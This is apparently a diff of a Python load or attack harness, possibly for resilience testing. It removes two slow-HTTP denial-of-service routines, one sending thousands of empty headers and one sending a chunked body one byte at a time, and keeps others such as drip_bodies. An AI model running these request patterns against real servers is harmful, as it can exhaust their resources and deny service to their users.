@@ -138,18 +138,6 @@ def drip_bodies(target: Target, network: str, over: Any, done: Counter[str]) -> 
     _hold(target, network, over, done, DRIPPING, begin, b"a")
 
 
-def send_many_headers(target: Target, network: str, over: Any, done: Counter[str]) -> None:
-    """Send heads of thousands of tiny headers."""
-    head = b"GET /archive.rss HTTP/1.1\r\nHost: x\r\n" + b"a:\r\n" * 7_900 + b"\r\n"
-    _hold(target, network, over, done, SLOW, lambda _n: head, b"")
-
-
-def send_tiny_chunks(target: Target, network: str, over: Any, done: Counter[str]) -> None:
-    """Send a body in chunks of one byte."""
-    begin = b"POST /subscribe HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
-    _hold(target, network, over, done, DRIPPING, lambda _n: begin, b"1\r\na\r\n" * 10_000)
-
-
 ATTACKS: tuple[Attack, ...] = (
     flood_search,
     poison_search_feeds,
@@ -162,8 +150,6 @@ ATTACKS: tuple[Attack, ...] = (
     hold_idle,
     send_slow_heads,
     drip_bodies,
-    send_many_headers,
-    send_tiny_chunks,
 )
 
 
